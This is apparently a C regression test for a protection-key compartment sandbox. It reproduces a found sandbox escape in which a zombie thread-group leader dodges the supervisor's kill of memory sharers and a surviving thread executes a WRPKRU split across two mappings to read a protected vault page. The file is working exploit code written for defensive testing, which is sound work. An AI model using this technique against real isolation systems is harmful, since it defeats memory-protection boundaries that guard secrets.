// Attacker model B. The supervisor's kill after a split WRPKRU (two
// executable mappings whose bytes across their edge make one) takes every
// process that shares the caller's memory first: it reads /proc and kills
// each pid whose memory kcmp(KCMP_VM) says is the caller's
// (runtime/supervisor-exec.c kill_with_sharers). /proc lists thread-group
// leaders only, and kcmp compares task->mm, which is NULL for a leader
// that has ended while its other threads live (a zombie leader). So the
// default domain starts a clone(CLONE_VM) process whose leader starts a
// thread (CLONE_THREAD) and ends with SYS_exit: the process lives on in its
// thread, sharing the memory, and kcmp against its (listed) leader says
// "another memory". The default domain then maps A (a sealed memfd page
// ending in 0F 01) and B (a page starting with EF C3) right after it; the
// supervisor finds the split WRPKRU, kills the caller, misses the sharer,
// and the sharer's thread jumps to A's last two bytes with eax = ecx = edx
// = 0 after its parent is gone: every key opens and it reads the vault's
// page (no race). Found in the sixth review; reproduced in the QEMU guest
// (6.1) as uid 65534.
//
// Fixed: sharers are compared thread by thread (supervisor.c
// bh_tgid_shares_memory_of), and the supervisor reads the caller's own
// /proc/<tgid>/task/<tid>/mem and maps, not its leader's. Still open: the
// moment between the mapping and the kill (attacks-review6-split-race.c).
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -fno-pkey-syscall-filter -O2 %s -o %t.off
// RUN: %run %t.off | FileCheck %s --check-prefix=OFF
// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on
// RUN: %run %t.on | FileCheck %s --check-prefix=ON
// OFF: == zombie-leader-sharer
// OFF: ATTACK SUCCEEDED: the thread of a process sharing the memory, after the kill, read "vault-secret
// ON-NOT: ATTACK SUCCEEDED
// ON: zombie-leader-sharer: stopped by signal 9
// ON: attack failed
// ON: parent's vault intact: 1
#include "Inputs/target.h"
#include "Inputs/split-wrpkru.h"

static volatile long attacker; /* the process that maps B */
static char stack[65536] __attribute__((aligned(16)));
static char thread_stack[65536] __attribute__((aligned(16)));

/* The sharer's thread: it waits for the attacker's end, then jumps to the
 * joint bytes. System calls only (it shares the TLS). */
static int thread(void *unused) {
  (void)unused;
  while (syscall(SYS_kill, attacker, 0) == 0)
    syscall(SYS_sched_yield);
  split_jump_and_send();
  return 0;
}

/* The sharer's leader: starts the thread and ends (SYS_exit, on return),
 * leaving a zombie leader whose task has no memory for kcmp to compare. */
static int leader(void *unused) {
  (void)unused;
  if (clone(thread, thread_stack + sizeof thread_stack,
            CLONE_VM | CLONE_THREAD | CLONE_SIGHAND, NULL) < 0)
    syscall(SYS_write, 1, "setup: thread\n", 14);
  return 0;
}

static void attack(void) {
  attacker = getpid();
  int fb = split_map_a();
  if (fb < 0)
    return;
  pid_t s = clone(leader, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
  if (s < 0) {
    printf("setup: clone: %s\n", strerror(errno));
    return;
  }
  /* Wait for the leader's end (a zombie now, its thread alive). */
  char path[64], buf[512];
  for (int i = 0; i < 2000; i++) {
    snprintf(path, sizeof path, "/proc/%d/stat", (int)s);
    int fd = open(path, O_RDONLY);
    ssize_t k = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
    if (fd >= 0)
      close(fd);
    if (k > 0) {
      buf[k] = 0;
      char *p = strrchr(buf, ')');
      if (p && p[2] == 'Z')
        break;
    }
    usleep(1000);
  }
  printf("sharer's leader: %.3s\n", strrchr(buf, ')') ? strrchr(buf, ')') + 2 : "?");
  fflush(stdout);
  split_map_b(fb);
}

int main(void) {
  return split_run_forked("zombie-leader-sharer", attack,
                          "the thread of a process sharing the memory, after the kill,");
}
